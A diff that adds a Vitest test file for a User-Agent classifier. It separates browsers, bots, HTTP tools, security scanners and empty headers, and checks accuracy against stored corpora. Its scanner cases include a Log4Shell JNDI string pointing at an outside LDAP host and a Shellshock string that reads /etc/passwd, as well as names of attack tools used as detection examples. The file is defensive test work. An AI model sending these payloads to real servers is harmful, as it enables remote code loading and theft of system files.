@@ -1,0 +1,135 @@
+// Every class by agents that anyone knows, hostile input, and the figures on the corpora.
+import { existsSync, readFileSync } from "node:fs";
+import { describe, expect, it } from "vitest";
+import { classifyUserAgent, type UserAgentClass } from "./user-agent.ts";
+
+const corpora = new URL("../../../../../shared/corpora/user-agents/", import.meta.url);
+const hasCorpora = existsSync(corpora);
+if (!hasCorpora) console.warn(`skipped: no user agents in ${corpora.pathname}`);
+
+const android = (model: string) =>
+  `Mozilla/5.0 (Linux; Android 13; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36`;
+
+const examples: Record<UserAgentClass, string[]> = {
+  client: [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
+    "Acme/12 CFNetwork/1568.200.51 Darwin/24.1.0",
+    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
+    "Nokia6230i/2.0 (03.80) Profile/MIDP-2.0 Configuration/CLDC-1.1",
+    "Lynx/2.9.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.4.0",
+  ],
+  bot: [
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+  ],
+  tool: [
+    "curl/7.68.0",
+    "Wget/1.21.4",
+    "python-requests/2.32.3",
+    "Go-http-client/2.0",
+    "okhttp/4.12.0",
+    "node",
+    "acme-sync/2.1 Python/3.12 aiohttp/3.9",
+    "PostmanRuntime/7.42.0",
+    "SomethingNobodyKnows/1.0",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
+  ],
+  scanner: [
+    "sqlmap/1.8.4#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "gobuster/3.6",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+    "Mozilla/5.0 zgrab/0.x",
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+    "Fuzz Faster U Fool v2.1.0",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the attack looks like
+    "${jndi:ldap://203.0.113.9/a}",
+    "() { :; }; /bin/cat /etc/passwd",
+  ],
+  empty: ["", " ", "\t\n ", "\0\0\0", "-"],
+};
+
+describe("classifyUserAgent", () => {
+  for (const [expected, agents] of Object.entries(examples)) {
+    for (const agent of agents) {
+      it(`takes ${JSON.stringify(agent.slice(0, 60))} for ${expected}`, () => {
+        expect(classifyUserAgent(agent)).toBe(expected);
+        expect(classifyUserAgent(agent)).toBe(expected);
+      });
+    }
+  }
+
+  it("takes a missing header for empty", () => {
+    expect(classifyUserAgent(undefined)).toBe("empty");
+  });
+
+  it("knows that CUBOT makes phones", () => {
+    for (const model of [
+      "CUBOT KINGKONG 9",
+      "CUBOT_NOTE_S",
+      "CUBOT X19 Build/PPR1.180610.011",
+      "X9 Build/CUBOT",
+    ]) {
+      expect(classifyUserAgent(android(model)), model).toBe("client");
+    }
+    expect(classifyUserAgent(android("OtherBot/1.0"))).toBe("bot");
+  });
+
+  it("does not read a phone's model as what the program is", () => {
+    for (const model of ["Discovery Pro", "Google Pixel 9", "Scan TC52", "Radar", "Hydra", "Wfuzz Build/1"]) {
+      expect(classifyUserAgent(android(model)), model).toBe("client");
+    }
+  });
+
+  it("does not take one name for part of another", () => {
+    expect(
+      classifyUserAgent(
+        "Mozilla/5.0 (Linux; x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Undicious/1.0 Axiosity/2.0",
+      ),
+    ).toBe("client");
+  });
+
+  it("does not look beyond the first part of a long header", () => {
+    const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";
+    expect(classifyUserAgent(`${browser} ${"x".repeat(10_000)} sqlmap/1.8`)).toBe("client");
+    expect(classifyUserAgent(`sqlmap/1.8 ${"x".repeat(10_000)}`)).toBe("scanner");
+    expect(classifyUserAgent(" ".repeat(10_000))).toBe("empty");
+  });
+
+  it("reads past control characters", () => {
+    expect(classifyUserAgent("\0\0curl/8.5.0\0")).toBe("tool");
+    expect(classifyUserAgent("sql\0map")).not.toBe("empty");
+    expect(classifyUserAgent("\ud800")).toBe("client");
+  });
+
+  it("answers the same when more agents came by than it remembers", () => {
+    for (let index = 0; index < 10_000; index++) classifyUserAgent(`tool${index}/1.0`);
+    expect(classifyUserAgent("curl/7.68.0")).toBe("tool");
+  });
+
+  it.skipIf(!hasCorpora)(
+    "finds at least 0.995 of bots and tools, and suspects at most 0.0005 of people",
+    () => {
+      const read = (file: string): string[] =>
+        readFileSync(new URL(file, corpora), "utf8")
+          .trim()
+          .split("\n")
+          .map((line) => JSON.parse(line).ua);
+      const bots = read("bots.jsonl");
+      const humans = read("humans.jsonl");
+      expect(bots.length).toBeGreaterThan(2000);
+      expect(humans.length).toBeGreaterThan(10_000);
+      const missed = bots.filter((agent) => classifyUserAgent(agent) === "client");
+      const suspected = humans.filter((agent) => classifyUserAgent(agent) !== "client");
+      expect(1 - missed.length / bots.length).toBeGreaterThanOrEqual(0.995);
+      expect(suspected.length / humans.length).toBeLessThanOrEqual(0.0005);
+    },
+  );
+});
